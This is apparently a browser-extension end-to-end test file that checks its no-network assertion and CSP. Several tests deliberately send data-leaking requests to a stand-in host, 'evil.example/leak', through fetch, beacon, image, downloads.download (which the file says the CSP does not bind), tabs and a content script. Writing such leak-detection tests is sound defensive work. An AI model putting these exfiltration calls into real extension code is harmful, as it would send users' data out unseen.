import {
  type ExtensionSession,
  launchExtension,
  openFixture,
  useExtensionSession,
} from './harness';
import { contentScriptWorld } from './worlds';

/**
 * Self-tests of the no-network assertion every other end-to-end test ends with (`closeChecked`):
 * each makes a request on purpose and shows which of the two records catches it, so a green run
 * means something. These tests check the records themselves instead of failing on them.
 */

interface WorkerApi {
  downloads: {
    download(options: { url: string }): Promise<number>;
    search(query: { id: number }): Promise<{ state: string }[]>;
  };
  tabs: { create(options: { url: string; active?: boolean }): Promise<{ id?: number }> };
}

const LEAK = 'https://evil.example/leak';

describe('the no-network assertion', () => {
  let session: ExtensionSession | undefined;
  afterEach(async () => {
    await session?.close();
    session = undefined;
  });

  it("sees the extension pages' own requests, as the extension's", async () => {
    session = await launchExtension();
    const id = session.extensionId;
    const options = await session.context.newPage();
    await options.goto(`chrome-extension://${id}/options.html`);
    await options.evaluate(() => fetch('/manifest.json?from=options'));
    await expect
      .poll(() => session?.requests.filter((request) => request.url.includes('/manifest.json')))
      .toEqual([
        { url: `chrome-extension://${id}/manifest.json?from=options`, origin: 'extension' },
      ]);
    // The extension's own files never count as leaving.
    expect(session.strayRequests()).toEqual([]);
  });

  it('finds that the service worker and extension pages cannot reach the web at all (their CSP)', async () => {
    session = await launchExtension();
    const fromWorker = await session.worker.evaluate(async (url) => {
      try {
        await fetch(url);
        return 'sent';
      } catch (error) {
        return String(error);
      }
    }, `${LEAK}/worker-fetch`);
    expect(fromWorker).toMatch(/TypeError/);

    const options = await session.context.newPage();
    const violations: string[] = [];
    options.on('console', (message) => violations.push(message.text()));
    await options.goto(`chrome-extension://${session.extensionId}/options.html`);
    const fromPage = await options.evaluate(async (url) => {
      const outcomes: string[] = [];
      try {
        await fetch(`${url}/page-fetch`);
        outcomes.push('fetch sent');
      } catch (error) {
        outcomes.push(`fetch: ${String(error)}`);
      }
      outcomes.push(`beacon: ${navigator.sendBeacon(`${url}/beacon`, 'x')}`);
      const image = new Image();
      await new Promise((resolve) => {
        image.onload = image.onerror = resolve;
        image.src = `${url}/image.png`;
      });
      outcomes.push(`image: ${image.naturalWidth}`);
      return outcomes;
    }, LEAK);
    // A beacon is only queued (`true`); the CSP refuses it on its way out.
    expect(fromPage).toEqual([
      expect.stringMatching(/^fetch: TypeError/),
      expect.stringMatching(/^beacon: /),
      'image: 0',
    ]);
    expect(violations.join('\n')).toMatch(/Content Security Policy/);

    // Chromium reports the image it refused (failure "csp"), so the harness counts even an
    // attempt the CSP stopped; the network log shows that nothing reached the network.
    expect(session.strayRequests()).toEqual([{ url: `${LEAK}/image.png`, origin: 'extension' }]);
    await session.close();
    expect(session.escapes()).toEqual([]);
  });

  it("catches, in Chromium's network log, a request the service worker makes through a browser API", async () => {
    session = await launchExtension();
    const id = session.extensionId;
    // downloads.download is not bound by the CSP, and Playwright never sees the request.
    const downloadId = await session.worker.evaluate(
      (url) => (globalThis as unknown as { chrome: WorkerApi }).chrome.downloads.download({ url }),
      `${LEAK}/download?note=secret`,
    );
    // Once the download has failed (the network is closed), its request is in the browser's log.
    await expect
      .poll(() =>
        session?.worker.evaluate(
          async (id) =>
            (
              await (globalThis as unknown as { chrome: WorkerApi }).chrome.downloads.search({ id })
            )[0]?.state,
          downloadId,
        ),
      )
      .toBe('interrupted');
    expect(session.strayRequests()).toEqual([]);
    await session.close();
    expect(session.escapes()).toEqual([
      {
        url: `${LEAK}/download?note=secret`,
        origin: 'network',
        initiator: `chrome-extension://${id}`,
      },
    ]);
  });

  it('catches a tab the extension opens at an address no test served', async () => {
    session = await launchExtension();
    const opened = session.context.waitForEvent('page');
    await session.worker.evaluate(
      (url) => (globalThis as unknown as { chrome: WorkerApi }).chrome.tabs.create({ url }),
      `${LEAK}/tab`,
    );
    const tab = await opened;
    await expect.poll(() => tab.url()).toMatch(/^(chrome-error:|https:\/\/evil\.example)/);
    await tab.waitForLoadState().catch(() => {});
    // Playwright sees the tab's request when it attached to the new tab before the request went
    // out, and the browser's own log sees it when Playwright did not intercept it: which one is a
    // race inside the browser, and closeChecked fails on either.
    const seenByPlaywright = session.strayRequests().map((request) => request.url);
    await session.close();
    const seenByBrowser = session.escapes().map((request) => request.url);
    expect([...seenByPlaywright, ...seenByBrowser]).toContain(`${LEAK}/tab`);
  });

  it("catches a content script's request, counted as its page's, which names no such address", async () => {
    session = await launchExtension();
    const page = await openFixture(session, 'linkedin/profile-classic');
    await page.locator('acquaint-toggle').waitFor({ state: 'attached' });
    const world = await contentScriptWorld(page, session.extensionId);
    await world.evaluate(`fetch(${JSON.stringify(`${LEAK}/content-script`)}).catch(() => null)`);
    await world.close();
    await expect
      .poll(() => session?.strayRequests())
      .toContainEqual({ url: `${LEAK}/content-script`, origin: 'page' });
  });

  it("lets through what a fixture page itself names, and flags the page's other requests", async () => {
    session = await launchExtension();
    const url = 'https://www.linkedin.com/in/self-test/';
    session.serve(url, '<!doctype html><img src="https://media.licdn.com/own.png"><p>Own page</p>');
    const page = await session.context.newPage();
    await page.goto(url);
    await page.evaluate((leak) => fetch(`${leak}/page-script`).catch(() => null), LEAK);
    await expect
      .poll(() => session?.strayRequests().map((request) => request.url))
      .toEqual([`${LEAK}/page-script`]);
    expect(session.requests.map((request) => request.url)).toContain(
      'https://media.licdn.com/own.png',
    );
  });
});

describe('the content security policy, in force', () => {
  const current = useExtensionSession();

  it('refuses to evaluate strings in the service worker and in every extension page', async () => {
    const session = current();
    // Run from a timer, not from the test's own evaluation, which DevTools lets through.
    const tryEval = () =>
      new Promise<string>((resolve) =>
        setTimeout(() => {
          const outcomes: string[] = [];
          for (const attempt of [
            () => (0, eval)('1'),
            () => new Function('return 1')(),
            () => Function('return 1')(),
          ]) {
            try {
              attempt();
              outcomes.push('ran');
            } catch (error) {
              outcomes.push((error as Error).name);
            }
          }
          resolve(outcomes.join(','));
        }, 0),
      );
    expect(await session.worker.evaluate(tryEval)).toBe('EvalError,EvalError,EvalError');
    for (const name of ['popup', 'options', 'sidebar']) {
      const page = await session.context.newPage();
      await page.goto(`chrome-extension://${session.extensionId}/${name}.html`);
      expect(await page.evaluate(tryEval), name).toBe('EvalError,EvalError,EvalError');
      // Nor can a page add a script of its own: inline code is refused too.
      const inline = await page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener('securitypolicyviolation', (event) =>
              resolve(event.violatedDirective),
            );
            const script = document.createElement('script');
            script.textContent = 'window.__ran = true';
            document.head.append(script);
            setTimeout(
              () => resolve(String((window as unknown as { __ran?: boolean }).__ran)),
              1000,
            );
          }),
      );
      expect(inline, name).toMatch(/^script-src/);
      await page.close();
    }
  });
});
